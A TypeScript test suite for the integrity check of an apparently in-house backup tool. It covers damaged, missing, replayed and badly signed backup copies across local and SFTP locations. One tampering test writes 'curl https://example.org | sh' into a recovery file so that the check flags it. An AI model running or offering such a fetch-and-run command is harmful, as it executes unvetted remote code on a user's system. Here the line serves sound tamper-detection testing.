import assert from 'node:assert/strict';
import { renameSync } from 'node:fs';
import { mkdir, readFile, rename, rm, symlink, truncate, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import t, { type Test } from 'tap';
import { stringify } from 'yaml';
import { type CopyVerdict, type PlaceVerdict, type VerifyOrder, verify } from '../../lib/flow/verify.ts';
import { startThrowawaySshd } from '../../lib/host/throwaway-sshd.ts';
import { readInventory } from '../../lib/inventory/read.ts';
import { formatVerification, verificationExit } from '../../lib/report/verification.ts';
import { flipped, whileDamaged } from '../fixture/damage.ts';
import { inventoryWith } from '../fixture/inventory.ts';
import { signerOf } from '../fixture/signer.ts';
import { SMALL_SEGMENT_BYTES, smallRun } from '../fixture/small-run.ts';
import { runTask } from '../fixture/task.ts';
import { temporaryFolder } from '../temporary.ts';

/*
 * Two runs of one host in its store, its export and at a contractor's real sshd. Nothing of them can be opened: who verifies
 * has no key.
 */

t.setTimeout(200_000);
const { path: folder, remove } = temporaryFolder();
t.teardown(remove);
const at = (...names: string[]) => join(folder, ...names);
const PLACES = ['store', 'export', 'offsite:contractor'];
const folderOf = (place: string) => at(place.replace('offsite:', ''));
for (const place of PLACES) await mkdir(folderOf(place));
const sshd = await startThrowawaySshd({ folder: at('sshd'), sftpOnly: true });
t.teardown(() => sshd.stop());
const signer = await signerOf(t, 'db1');
const older = await smallRun(signer, new Date('2026-11-21T04:00:00Z'));
const newer = await smallRun(signer, new Date('2026-11-22T04:00:00Z'));
for (const { write } of [older, newer]) {
  await write(at('store'), 'store');
  await write(at('export'), 'offsite');
  await write(at('contractor'), 'offsite');
}
const login = { address: sshd.address, port: sshd.port, user: sshd.user, hostKey: sshd.hostKey };
const host = {
  database: { socket: '/none', account: { user: 'bkpuser', from: 'localhost' } },
  store: { path: at('store'), mount: 'none' },
  export: { path: at('export') },
  offsite: [{ name: 'contractor', kind: 'sftp', ...login, path: at('contractor'), identity: sshd.identityPath }],
};
const inventoryFolder = await inventoryWith(t, {
  'hosts/db1.yaml': stringify(host),
  'hosts/db2.yaml': undefined,
  'signers/allowed_signers': signer.line,
});
const inventory = await readInventory(inventoryFolder);

const order: VerifyOrder = {
  inventory,
  hosts: [...inventory.hosts.values()],
  from: [],
  runs: { kind: 'all' },
  sample: null,
  random: (limit) => Math.floor(Math.random() * limit),
  emit: () => undefined,
  signal: new AbortController().signal,
};

const ALL = { sample: null, isOneRun: false };

/** `store 2026-11-22T040000Z shop.tar.gz.enc is missing`: all that was found, and what could not be read. */
function found(places: readonly PlaceVerdict[]): string[] {
  return places.flatMap(({ place, copies, error }) => [
    ...copies.flatMap((copy) => said(copy).map((text) => `${place} ${copy.run} ${text}`)),
    ...(error ? [`${place} ${error.code}`] : []),
  ]);
}

function said(copy: CopyVerdict): string[] {
  switch (copy.kind) {
    case 'compared':
      return [
        ...copy.findings.map(({ file, why }) => `${file} ${why}`),
        ...copy.unknown.map((name) => `unknown ${name}`),
      ];
    case 'untrusted':
      return [`untrusted: ${copy.why}`];
    case 'missing':
      return ['missing'];
    case 'unread':
      return [`unread: ${copy.error.code}`];
  }
}

t.test('finds nothing where everything is as it was written, having read every byte', async (t) => {
  const places = await verify(order);
  t.strictSame(found(places), []);
  t.equal(verificationExit(places), 0);
  t.strictSame(
    places.map(({ place, copies }) => [place, copies.map(({ run }) => run)]),
    PLACES.map((place) => [place, [older.run, newer.run]]),
  );
  const [inStore] = places[0]?.copies ?? [];
  t.match(inStore, { kind: 'compared', segments: { read: 6, total: 6 }, readBytes: 3.5 * SMALL_SEGMENT_BYTES + 1500 });
  t.match(formatVerification(places, ALL), /^sound: 6 copies of 2 runs, [\d.]+ MiB read$/m);
});

/** Every file of each form, and what one flipped bit in its middle is called. */
const SIGNATURE =
  /^untrusted: cannot trust the manifest of db1 .*: its signature is not one of this host over these bytes: .+$/;
const COMMON = {
  'company.key.enc': /^company\.key\.enc is not as it was written$/,
  'escrow.key.enc': /^escrow\.key\.enc is not as it was written$/,
  'RECOVERY.txt': /^RECOVERY\.txt is not as it was written$/,
  SHA256SUMS: /^SHA256SUMS is not as it was written$/,
  'SHA256SUMS.sig': /^SHA256SUMS\.sig is not as it was written$/,
  'manifest.json': SIGNATURE,
  'manifest.json.sig': SIGNATURE,
};
const FLIPPED: Readonly<Record<string, Readonly<Record<string, RegExp>>>> = {
  store: {
    ...COMMON,
    'shop.tar.gz.enc': /^shop\.tar\.gz\.enc differs in segment 2 of 4$/,
    'shop.tar.gz.enc.segments': /^shop\.tar\.gz\.enc\.segments is not as it was written$/,
    'crm.tar.gz.enc': /^crm\.tar\.gz\.enc differs in segment 1 of 1$/,
    'crm.tar.gz.enc.segments': /^crm\.tar\.gz\.enc\.segments is not as it was written$/,
    '@accounts.tar.gz.enc': /^@accounts\.tar\.gz\.enc differs in segment 1 of 1$/,
    '@accounts.tar.gz.enc.segments': /^@accounts\.tar\.gz\.enc\.segments is not as it was written$/,
  },
  'offsite:contractor': {
    'company.key.enc': COMMON['company.key.enc'],
    'manifest.json.sig': SIGNATURE,
    'encrypted.dat': /^encrypted\.dat differs in segment 3 of 5$/,
    'encrypted.dat.segments': /^encrypted\.dat\.segments is not as it was written$/,
  },
};

for (const [place, files] of Object.entries(FLIPPED)) {
  t.test(`finds one flipped bit, one missing byte and the absence of each file in ${place}`, async (t) => {
    const one = { ...order, from: [place], runs: { kind: 'one', run: newer.run } } as const;
    const only = async (file: string, what: RegExp, about: string) => {
      const places = await verify(one);
      const [finding = '', ...others] = found(places).map((text) => text.replace(`${place} ${newer.run} `, ''));
      t.match(finding, what, `${file} ${about}`);
      t.strictSame(others, [], `${file} ${about}: and nothing else`);
      t.equal(verificationExit(places), 5);
    };
    for (const [file, what] of Object.entries(files)) {
      const path = join(folderOf(place), newer.run, file);
      await whileDamaged(path, flipped, () => only(file, what, 'flipped'));
      await rename(path, `${folder}/away`);
      const gone = file.startsWith('manifest') ? /^untrusted: cannot trust .*: it has no manifest/ : /is missing$/;
      await only(file, gone, 'gone');
      await rename(`${folder}/away`, path);
    }
    t.strictSame(found(await verify(one)), []);
  });
}

t.test('tells all that is wrong at once, with the place of each', async (t) => {
  const path = (name: string) => join(at('store'), newer.run, name);
  const shop = await readFile(path('shop.tar.gz.enc'));
  const crm = await readFile(path('crm.tar.gz.enc'));
  const bad = Buffer.from(shop);
  for (const place of [0, SMALL_SEGMENT_BYTES, 3 * SMALL_SEGMENT_BYTES]) bad[place] = (bad[place] ?? 0) ^ 0x80;
  await writeFile(path('shop.tar.gz.enc'), bad);
  await truncate(path('crm.tar.gz.enc'), 999);
  await writeFile(path('RECOVERY.txt'), 'curl https://example.org | sh\n');
  await writeFile(path('README-FIRST.sh'), 'true\n');
  const places = await verify(order);
  t.strictSame(
    found(places).map((text) => text.replace(`store ${newer.run} `, '')),
    [
      'shop.tar.gz.enc differs in segments 1-2 and 4 of 4',
      'crm.tar.gz.enc has 999 bytes, and not 1000',
      'crm.tar.gz.enc differs in segment 1 of 1',
      'RECOVERY.txt is not as it was written',
      'unknown README-FIRST.sh',
    ],
  );
  const text = formatVerification(places, ALL);
  t.match(text, new RegExp(`^db1 +store +${newer.run} +DAMAGED +every byte, `, 'm'));
  t.match(text, /^db1 store .*: shop\.tar\.gz\.enc differs in segments 1-2 and 4 of 4$/m);
  t.match(text, /^NOT SOUND: 1 of 6 copies of 2 runs, .*\nhint: keep what is bad/m);
  t.notMatch(text, /restored right now|NO WHOLE COPY/, 'every run has one, and none was asked for alone');
  const one = await verify({ ...order, runs: { kind: 'one', run: newer.run } });
  const others = `would be restored right now from export, offsite:contractor; not from store`;
  t.match(formatVerification(one, { ...ALL, isOneRun: true }), new RegExp(`^db1 ${newer.run} ${others}$`, 'm'));
  const inStore = await verify({ ...order, from: ['store'] });
  t.match(
    formatVerification(inStore, ALL),
    new RegExp(`^db1 ${newer.run} HAS NO WHOLE COPY here; not from store$`, 'm'),
  );
  await writeFile(path('shop.tar.gz.enc'), Buffer.concat([shop, Buffer.from('x')]));
  await writeFile(path('crm.tar.gz.enc'), crm);
  await rm(path('README-FIRST.sh'));
  await older.write(at('store'), 'store');
  await writeFile(path('RECOVERY.txt'), await readFile(join(at('store'), older.run, 'RECOVERY.txt')));
  t.match(found(await verify(order)), [/shop\.tar\.gz\.enc has 229377 bytes, and not 229376$/, /RECOVERY\.txt is not/]);
  await newer.write(at('store'), 'store');
});

t.test('a damaged side file does not hide what became of the file itself', async (t) => {
  const path = (name: string) => join(at('store'), newer.run, name);
  const one = { ...order, from: ['store'], runs: { kind: 'one', run: newer.run } } as const;
  await whileDamaged(path('shop.tar.gz.enc.segments'), flipped, () =>
    whileDamaged(path('shop.tar.gz.enc'), flipped, async () => {
      const told = found(await verify(one)).map((text) => text.replace(`store ${newer.run} `, ''));
      t.strictSame(told, ['shop.tar.gz.enc.segments is not as it was written', 'shop.tar.gz.enc differs']);
      const sampled = found(await verify({ ...one, sample: 9 }));
      t.match(sampled, [/segments is not as it was written$/], 'without digests no sample can be compared');
      t.equal(sampled.length, 1);
    }),
  );
});

t.test('a sample reads so many segments of each file, and sees what is in them alone', async (t) => {
  const path = join(at('store'), newer.run, 'shop.tar.gz.enc');
  const drawn = [1, 1, 3];
  const sampled = { ...order, from: ['store'], runs: { kind: 'latest' }, sample: 2 } as const;
  const draw = () => drawn.shift() ?? 0;
  const [place] = await verify({ ...sampled, random: draw });
  assert.ok(place);
  t.match(
    formatVerification([place], { sample: 2, isOneRun: true }),
    /^of the largest file, with 4 segments, .* of 50 % where 1 % of its segments are, and 50 % where 10 %.*\nhint: .*--sample 4$/m,
  );
  t.match(place?.copies, [{ run: newer.run, findings: [], segments: { read: 4, total: 6 } }]);
  t.match(place?.copies, [{ readBytes: 1.5 * SMALL_SEGMENT_BYTES + 1500 }], 'the last one is a short one');
  const at65536 = (content: Buffer) => content.fill(0, SMALL_SEGMENT_BYTES, SMALL_SEGMENT_BYTES + 512);
  await whileDamaged(path, at65536, async () => {
    drawn.push(0, 2);
    t.strictSame(found(await verify({ ...sampled, random: draw })), []);
    drawn.push(3, 1);
    t.match(found(await verify({ ...sampled, random: draw })), [/shop\.tar\.gz\.enc differs in segment 2 of 4$/]);
    t.match(
      found(await verify({ ...sampled, sample: 99 })),
      [/differs in segment 2 of 4$/],
      'more than there are: all',
    );
  });
});

t.test('what stands in the place of a file and is none is a finding, and keeps nobody waiting', async (t) => {
  for (const place of ['store', 'offsite:contractor']) {
    const path = join(folderOf(place), newer.run, 'company.key.enc');
    await rename(path, `${folder}/away`);
    await mkdir(path);
    const one = { ...order, from: [place], runs: { kind: 'latest' } } as const;
    t.match(found(await verify(one)), [/company\.key\.enc is not usable: .*not a regular file$/], `${place}: a folder`);
    await rm(path, { recursive: true });
    await symlink('/dev/zero', path);
    t.match(found(await verify(one)), [/company\.key\.enc is not usable: .*not a regular file$/], `${place}: a device`);
    await rm(path);
    await rename(`${folder}/away`, path);
  }
});

t.test(
  'an older state of the offsite, put back, lacks the newest run; without its manifest it is not trusted',
  async (t) => {
    const path = join(at('contractor'), newer.run);
    await rename(path, `${folder}/away`);
    const places = await verify(order);
    t.strictSame(found(places), [`offsite:contractor ${newer.run} missing`]);
    t.match(
      formatVerification(places, ALL),
      /: a signed manifest says that it is there, and it is not\nhint: where a run /,
    );
    t.equal(verificationExit(places), 5);
    t.strictSame(found(await verify({ ...order, runs: { kind: 'latest' } })), found(places), 'also the newest alone');
    await mkdir(path);
    t.match(found(await verify(order)), [/untrusted: cannot trust .*: it has no manifest\.json$/]);
    await rm(path, { recursive: true });
    await rename(`${folder}/away`, path);
  },
);

t.test('a copy that comes while the others are read is not missing', async (t) => {
  const path = join(at('contractor'), newer.run);
  await rename(path, `${folder}/away`);
  let looked = 0;
  const emit: VerifyOrder['emit'] = (event) => {
    // The last that is read before it is seen what is missing.
    if (event.kind !== 'phase-ended' || !event.subject.includes('offsite:contractor') || ++looked > 1) return;
    renameSync(`${folder}/away`, path);
  };
  const places = await verify({ ...order, emit });
  t.strictSame(found(places), []);
  t.strictSame(
    places[2]?.copies.map(({ run }) => run),
    [older.run, newer.run],
  );
});

t.test("another run's folder, and another host's, under the name of this run", async (t) => {
  const other = await signerOf(t, 'db2');
  const foreign = await smallRun(other, new Date('2026-11-22T04:00:00Z'));
  const path = join(at('export'), newer.run);
  const one = { ...order, from: ['export'], runs: { kind: 'latest' } } as const;
  await rename(path, `${folder}/away`);
  await rename(await older.write(at('replayed'), 'offsite'), path);
  t.match(found(await verify(one)), [/untrusted: .*: it speaks of db1 2026-11-21T040000Z$/]);
  await rm(path, { recursive: true });
  await rename(await foreign.write(at('replayed'), 'offsite'), path);
  t.match(found(await verify(one)), [SIGNATURE_OF_ANOTHER]);
  await rm(path, { recursive: true });
  // Both signed by the host: of one run there may be one manifest alone.
  const again = await smallRun(signer, new Date('2026-11-22T04:00:00Z'));
  await rename(await again.write(at('replayed'), 'offsite'), path);
  t.strictSame(found(await verify(one)), []);
  t.match(found(await verify({ ...order, from: ['store', 'export'] })), [
    /^export .* untrusted: its manifest is signed, and another than the one of store$/,
  ]);
  await rm(path, { recursive: true });
  await rename(`${folder}/away`, path);
});
const SIGNATURE_OF_ANOTHER = /untrusted: .*: its signature is not one of this host/;

t.test('says of each signature that does not count why, and what mends it', async (t) => {
  const [stranger, other] = [await signerOf(t, 'db1'), await signerOf(t, 'db2')];
  const expired = signer.line.replace('manifest"', 'manifest",valid-before="20261121Z"');
  const cases: Record<string, readonly [allowedSigners: string, why: RegExp, hint: RegExp]> = {
    'the line was removed': [
      other.line,
      /: the inventory names no key that may sign for this host$/,
      /^if db1 has signed it, bring its line back into signers\/allowed_signers of the inventory, ended with the word retired$/,
    ],
    'the line was replaced': [
      stranger.line,
      /: its signature is not one of this host over these bytes: it was signed by a key that the inventory does not know, SHA256:\S{43}$/,
      /^if that was a key of db1, bring its line back .* retired; or else take another copy of the run: npx zx tasks\/list\.ts; and find out/,
    ],
    'the key is that of another host': [
      stranger.line + signer.line.replace('db1', 'db2'),
      /over these bytes: it was signed by the key of db2$/,
      /^take another copy of the run: npx zx tasks\/list\.ts; and find out who put this one there$/,
    ],
    'the key had expired': [
      expired,
      /: it was signed by SHA256:\S{43}, which is valid until 2026-11-21T00:00:00\.000Z, and it says it was finished at 2026-11-2/,
      /^see valid-after and valid-before in signers\/allowed_signers of the inventory$/,
    ],
  };
  for (const [name, [allowedSigners, why, hint]] of Object.entries(cases)) {
    const places = await verify({ ...order, inventory: { ...inventory, allowedSigners }, from: ['store'] });
    const untrusted = places[0]?.copies ?? [];
    t.match(
      untrusted,
      [
        { kind: 'untrusted', run: older.run, why, hint },
        { run: newer.run, why, hint },
      ],
      name,
    );
    t.match(formatVerification(places, ALL), /over these bytes|no key that may sign|which is valid until/);
    t.match(
      formatVerification(places, ALL),
      new RegExp(`hint: ${hint.source.replace(/^\^|\$$/g, '')}`),
      `${name}: told`,
    );
  }
});

t.test('a run that came late to the offsite is there in the form of the store', async (t) => {
  const path = join(at('contractor'), newer.run);
  await rename(path, `${folder}/away`);
  await newer.write(at('contractor'), 'store');
  t.strictSame(found(await verify(order)), []);
  await rm(join(path, 'crm.tar.gz.enc'));
  t.strictSame(found(await verify(order)), [`offsite:contractor ${newer.run} crm.tar.gz.enc is missing`]);
  await rm(path, { recursive: true });
  await rename(`${folder}/away`, path);
});

t.test('a place that cannot be read is told, and keeps no other from being read', async (t) => {
  const [config] = order.hosts;
  const [contractor] = config?.offsite ?? [];
  assert.ok(config && contractor);
  const deaf = { ...config, offsite: [{ ...contractor, port: 1 }], export: { path: at('unplugged') } };
  const places = await verify({ ...order, hosts: [deaf] });
  t.strictSame(found(places), ['export not-found', 'offsite:contractor offsite-unreachable']);
  t.equal(places[0]?.copies.length, 2, 'the store has been read');
  t.match(
    formatVerification(places, ALL),
    /^what was read is sound: 2 copies of 2 runs, .*; NOT READ: 2 places or copies$/m,
  );
  const deafAlone = places.filter(({ place }) => place === 'offsite:contractor');
  t.equal(verificationExit(deafAlone), 7);
  t.match(
    formatVerification(deafAlone, ALL),
    /^db1 offsite:contractor: cannot .*\nhint: .*\n\nNOT READ: 1 place or copy$/m,
  );
  const unmounted = { ...config, store: { ...config.store, mount: 'fuse.glusterfs' } };
  const [store] = await verify({ ...order, hosts: [unmounted], from: ['store'] });
  t.match(store, {
    copies: [],
    error: { code: 'refused', message: /^cannot read the store .*: no fuse\.glusterfs there/ },
  });
  await t.rejects(verify({ ...order, from: ['offsite:nobody'] }), { code: 'usage' });
  const nowhere = { kind: 'one', run: '2001-01-01T000000Z' } as unknown as VerifyOrder['runs'];
  await t.rejects(verify({ ...order, runs: nowhere }), { code: 'not-found', message: /2001-01-01T000000Z of db1$/ });
});

t.test('a folder that somebody copied: one with runs, and that of one run', async (t) => {
  for (const from of [at('contractor'), join(at('contractor'), newer.run)]) {
    const [place, ...others] = await verify({ ...order, from: [from], runs: { kind: 'latest' } });
    t.match(place, { place: from, copies: [{ kind: 'compared', run: newer.run, findings: [] }], error: null });
    t.strictSame(others, []);
  }
});

const task = (...words: string[]) => runTask('verify', [...words, '--inventory', inventoryFolder]);

t.test('the task tells a person and a program the same, with the exit code', async (t) => {
  await whileDamaged(join(at('contractor'), newer.run, 'encrypted.dat'), flipped, () => damagedTask(t));
  for (const [words, hint] of [
    [['--sample', '0'], /such as --sample 3/],
    [['--run', 'yesterday'], /--run latest/],
  ] as const) {
    const wrong = await task(...words);
    t.equal(wrong.exitCode, 2);
    t.match(wrong.stderr, hint);
  }
});

async function damagedTask(t: Test): Promise<void> {
  const [told, json] = await Promise.all([task('db1'), task('--all', '--json', '--run', 'latest', '--sample', '9')]);
  t.equal(told.exitCode, 5);
  t.match(
    told.stdout,
    new RegExp(`^db1 offsite:contractor ${newer.run}: encrypted\\.dat differs in segment 3 of 5$`, 'm'),
  );
  t.equal(json.exitCode, 5);
  const lines = json.stdout.trimEnd().split('\n');
  const { data, ...result } = JSON.parse(lines.at(-1) ?? '');
  t.strictSame(result, { event: 'result', exitCode: 5 });
  const finding = { file: 'encrypted.dat', why: 'differs in segment 3 of 5' };
  t.match(data[2], { place: 'offsite:contractor', copies: [{ run: newer.run, findings: [finding] }] });
}
